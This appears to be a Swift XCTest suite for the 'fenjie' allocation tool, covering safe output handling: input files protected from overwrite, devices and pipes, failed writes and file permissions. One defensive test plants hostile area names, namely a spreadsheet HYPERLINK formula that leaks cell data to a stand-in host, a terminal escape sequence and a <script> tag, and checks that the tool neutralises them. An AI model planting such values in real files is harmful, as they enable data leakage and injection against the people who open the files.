import Foundation
import TestSupport
import XCTest

/// Issue 17: no output replaces an input of the run or anything that is not a regular file; a failed
/// write is a message and exit status 1, never a trap; outputs are safe for the programs that open them.
final class OutputSafetyTests: XCTestCase {
  var directory: URL!

  override func setUpWithError() throws {
    directory = FileManager.default.temporaryDirectory.appendingPathComponent("fenjie-output-\(UUID())")
    try FileManager.default.createDirectory(at: directory.appendingPathComponent("liangxi"), withIntermediateDirectories: true)
    for name in ["liangxi/dataset.toml", "liangxi/targets.csv", "liangxi/streets-2024.csv", "liangxi-2025.toml", "liangxi-2026.toml"] {
      try FileManager.default.copyItem(
        at: packageRoot.appendingPathComponent("Scenarios/\(name)"), to: directory.appendingPathComponent(name))
    }
  }

  override func tearDownWithError() throws { try? FileManager.default.removeItem(at: directory) }

  func contents(_ name: String) throws -> Data { try Data(contentsOf: directory.appendingPathComponent(name)) }

  /// The district targets table and a base scenario are inputs too, for -o, --write-lp and --write-model.
  func testNoOutputReplacesAnInput() throws {
    let targets = try contents("liangxi/targets.csv")
    let base = try contents("liangxi-2025.toml")
    let runs: [([String], String)] = [
      (["allocate", "liangxi-2025.toml", "--format", "csv", "-o", "liangxi/targets.csv"], "liangxi/targets.csv: is one of this run's input files; fenjie will not write over it. Choose another --output"),
      (["allocate", "liangxi-2025.toml", "--write-lp", "liangxi/targets.csv"], "liangxi/targets.csv: is one of this run's input files; fenjie will not write over it. Choose another --write-lp"),
      (["simulate", "liangxi-2026.toml", "--runs", "10", "--format", "table", "-o", "liangxi-2025.toml"], "liangxi-2025.toml: is one of this run's input files"),
      (["simulate", "liangxi-2026.toml", "--runs", "10", "--write-model", "liangxi-2025.toml"], "liangxi-2025.toml: is one of this run's input files; fenjie will not write over it. Choose another --write-model"),
      (["allocate", "liangxi-2025.toml", "--format", "csv", "-o", "./liangxi/../liangxi/targets.csv"], "is one of this run's input files"),
    ]
    for (arguments, message) in runs {
      let run = try runFenjie(arguments, in: directory, environment: englishLocale)
      XCTAssertEqual(run.status, 2, "\(arguments): \(run.stderr)")
      XCTAssertTrue(run.stderr.contains(message), "\(arguments): \(run.stderr)")
    }
    // A hard link to an input is the input.
    try FileManager.default.linkItem(at: directory.appendingPathComponent("liangxi/targets.csv"), to: directory.appendingPathComponent("copy.csv"))
    let linked = try runFenjie(["allocate", "liangxi-2025.toml", "-o", "copy.csv"], in: directory)
    XCTAssertEqual(linked.status, 2)
    XCTAssertTrue(linked.stderr.contains("copy.csv: 是本次运行的输入文件之一，fenjie 不会覆盖它"), linked.stderr)
    XCTAssertEqual(try contents("liangxi/targets.csv"), targets)
    XCTAssertEqual(try contents("liangxi-2025.toml"), base)
  }

  /// A device is written in place, never replaced by a regular file; a full one is a message.
  func testDevicesAreWrittenInPlace() throws {
    let null = try runFenjie(["allocate", "liangxi-2025.toml", "-o", "/dev/null"], in: directory)
    XCTAssertEqual(null.status, 0, null.stderr)
    var info = stat()
    XCTAssertEqual(stat("/dev/null", &info), 0)
    XCTAssertEqual(info.st_mode & S_IFMT, S_IFCHR, "/dev/null is still a device")
    let full = try runFenjie(["allocate", "liangxi-2025.toml", "-o", "/dev/full"], in: directory)
    XCTAssertEqual(full.status, 1)
    XCTAssertEqual(full.stderr, "fenjie: /dev/full: 无法写入：磁盘空间不足（No space left on device）\n")
    let english = try runFenjie(["allocate", "liangxi-2025.toml", "-o", "/dev/full"], in: directory, environment: englishLocale)
    XCTAssertEqual(english.stderr, "fenjie: /dev/full: cannot be written: No space left on device\n")
    XCTAssertEqual(stat("/dev/full", &info), 0)
    XCTAssertEqual(info.st_mode & S_IFMT, S_IFCHR, "/dev/full is still a device")
  }

  /// A named pipe is written in place (a reader gets the table), never replaced by a regular file.
  func testNamedPipeIsWrittenInPlace() throws {
    let fifo = directory.appendingPathComponent("table.fifo").path
    XCTAssertEqual(mkfifo(fifo, 0o644), 0)
    let received = ReceivedData()
    let reader = Thread {
      // Opening for reading waits for the writer, then reads to its end.
      received.set(FileHandle(forReadingAtPath: fifo)?.readDataToEndOfFile() ?? Data())
    }
    reader.start()
    let run = try runFenjie(["allocate", "liangxi-2025.toml", "--format", "csv", "-o", "table.fifo"], in: directory)
    XCTAssertEqual(run.status, 0, run.stderr)
    let deadline = Date().addingTimeInterval(10)
    while received.get() == nil && Date() < deadline { Thread.sleep(forTimeInterval: 0.05) }
    XCTAssertTrue(String(decoding: received.get() ?? Data(), as: UTF8.self).contains("行动名称,指标"))
    var info = stat()
    XCTAssertEqual(stat(fifo, &info), 0)
    XCTAssertEqual(info.st_mode & S_IFMT, S_IFIFO, "still a pipe")
  }

  /// `> /dev/full` and a closed standard output: a message and exit status 1 (it was a trap, 132).
  func testFailedStandardOutputIsAMessage() throws {
    for (name, handle) in [("/dev/full", FileHandle(forWritingAtPath: "/dev/full")!), ("closed", FileHandle(fileDescriptor: dup(1), closeOnDealloc: true))] {
      if name == "closed" { try handle.close() }
      for arguments in [["allocate", "liangxi-2025.toml"], ["check", "liangxi-2025.toml"]] {
        let process = Process()
        process.executableURL = productsDirectory.appendingPathComponent("fenjie")
        process.arguments = arguments
        process.currentDirectoryURL = directory
        process.environment = ProcessInfo.processInfo.environment.merging(chineseLocale) { _, new in new }
        let err = Pipe()
        process.standardOutput = name == "closed" ? nil : handle
        process.standardError = err
        if name == "closed" {
          // A child whose standard output is closed: run through the shell's >&-.
          process.executableURL = URL(fileURLWithPath: "/bin/sh")
          process.arguments = ["-c", "exec \"$0\" \"$@\" >&-", productsDirectory.appendingPathComponent("fenjie").path] + arguments
        }
        try process.run()
        let message = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        XCTAssertEqual(process.terminationReason, .exit, "\(name) \(arguments): no trap")
        XCTAssertEqual(process.terminationStatus, 1, "\(name) \(arguments): \(message)")
        XCTAssertTrue(message.hasPrefix("fenjie: 标准输出: 无法写入："), "\(name) \(arguments): \(message)")
      }
    }
  }

  /// A replaced output keeps its mode; a failed write names the user's path, not the temporary file.
  func testReplacedOutputKeepsItsPermissions() throws {
    let out = directory.appendingPathComponent("private.txt").path
    FileManager.default.createFile(atPath: out, contents: Data("old".utf8), attributes: [.posixPermissions: 0o600])
    let run = try runFenjie(["allocate", "liangxi-2025.toml", "-o", "private.txt"], in: directory)
    XCTAssertEqual(run.status, 0, run.stderr)
    let attributes = try FileManager.default.attributesOfItem(atPath: out)
    XCTAssertEqual((attributes[.posixPermissions] as? NSNumber)?.intValue, 0o600)
    XCTAssertTrue(try String(contentsOfFile: out, encoding: .utf8).contains("崇安寺街道"))
    let missing = try runFenjie(["allocate", "liangxi-2025.toml", "--write-lp", "no-such-folder/model.lp"], in: directory, environment: englishLocale)
    XCTAssertEqual(missing.status, 2)
    XCTAssertTrue(missing.stderr.contains("no-such-folder/model.lp: cannot be written: the folder"), missing.stderr)
    XCTAssertFalse(missing.stderr.contains(".tmp"), missing.stderr)
  }

  func testUnknownExtensionIsRefusedWithTheFormats() throws {
    let run = try runFenjie(["allocate", "liangxi-2025.toml", "-o", "分解表.pdf", "--lang", "en"], in: directory)
    XCTAssertEqual(run.status, 2)
    XCTAssertTrue(run.stderr.contains("--output 分解表.pdf: fenjie does not write .pdf files; it writes table, csv, markdown, json, xlsx"), run.stderr)
    XCTAssertFalse(FileManager.default.fileExists(atPath: directory.appendingPathComponent("分解表.pdf").path))
    let compare = try runFenjie(["compare", "liangxi-2025.toml", "liangxi-2026.toml", "--no-odds", "-o", "c.xlsx", "--lang", "en"], in: directory)
    XCTAssertEqual(compare.status, 2)
    XCTAssertTrue(compare.stderr.contains("it writes table, csv, markdown, json (.txt"), compare.stderr)
    let help = try runFenjie(["compare", "--help"], in: directory)
    XCTAssertFalse(help.stdout.contains("xlsx"), help.stdout)
  }

  /// Hostile names in the files: a formula in an area's name is text in the CSV, escape sequences are
  /// shown, not sent, on the terminal, and markup is text in markdown.
  func testHostileNamesAreNeutralised() throws {
    let formula = "=HYPERLINK(\"http://x.example/\"&A1,\"点我\")"
    let escaped = formula.replacingOccurrences(of: "\"", with: "\\\"")
    var dataset = try String(contentsOf: directory.appendingPathComponent("liangxi/dataset.toml"), encoding: .utf8)
    dataset = dataset.replacingOccurrences(of: "\"崇安寺街道\"", with: "\"\(escaped)\"").replacingOccurrences(of: "\"北大街街道\"", with: "\"北大街\\u001B]0;pwned\\u0007<script>\"")
    try dataset.write(to: directory.appendingPathComponent("liangxi/dataset.toml"), atomically: true, encoding: .utf8)
    // The dataset refuses the control characters in 北大街’s name: names cannot carry them at all.
    let refused = try runFenjie(["allocate", "liangxi-2025.toml", "--lang", "en"], in: directory)
    XCTAssertEqual(refused.status, 2)
    XCTAssertTrue(refused.stderr.contains("dataset.toml, line 4: areas: an area name \"北大街<U+001B (ESC)>]0;pwned<U+0007 (BEL)><script>\" contains a control character"), refused.stderr)
    XCTAssertFalse(refused.stderr.contains("\u{1B}"), "no raw escape on the terminal")
    dataset = dataset.replacingOccurrences(of: "\\u001B]0;pwned\\u0007", with: "")
    try dataset.write(to: directory.appendingPathComponent("liangxi/dataset.toml"), atomically: true, encoding: .utf8)
    var streets = try String(contentsOf: directory.appendingPathComponent("liangxi/streets-2024.csv"), encoding: .utf8)
    let csvQuoted = "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    streets = streets.replacingOccurrences(of: "崇安寺街道", with: csvQuoted).replacingOccurrences(of: "北大街街道", with: "北大街<script>")
    try streets.write(to: directory.appendingPathComponent("liangxi/streets-2024.csv"), atomically: true, encoding: .utf8)
    let csv = try runFenjie(["allocate", "liangxi-2025.toml", "--format", "csv"], in: directory)
    XCTAssertEqual(csv.status, 0, csv.stderr)
    XCTAssertTrue(csv.stdout.contains("\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"点我\"\")\""), csv.stdout)
    XCTAssertFalse(csv.stdout.contains(",\"=HYPERLINK"), "the formula is never a cell's first character")
    let markdown = try runFenjie(["allocate", "liangxi-2025.toml", "--format", "markdown"], in: directory)
    XCTAssertTrue(markdown.stdout.contains("北大街&lt;script&gt;"), markdown.stdout)
    XCTAssertFalse(markdown.stdout.contains("<script>"))
  }
}

/// Data handed from the reading thread to the test.
final class ReceivedData: @unchecked Sendable {
  private let lock = NSLock()
  private var data: Data?
  func set(_ value: Data) { lock.lock(); data = value; lock.unlock() }
  func get() -> Data? { lock.lock(); defer { lock.unlock() }; return data }
}
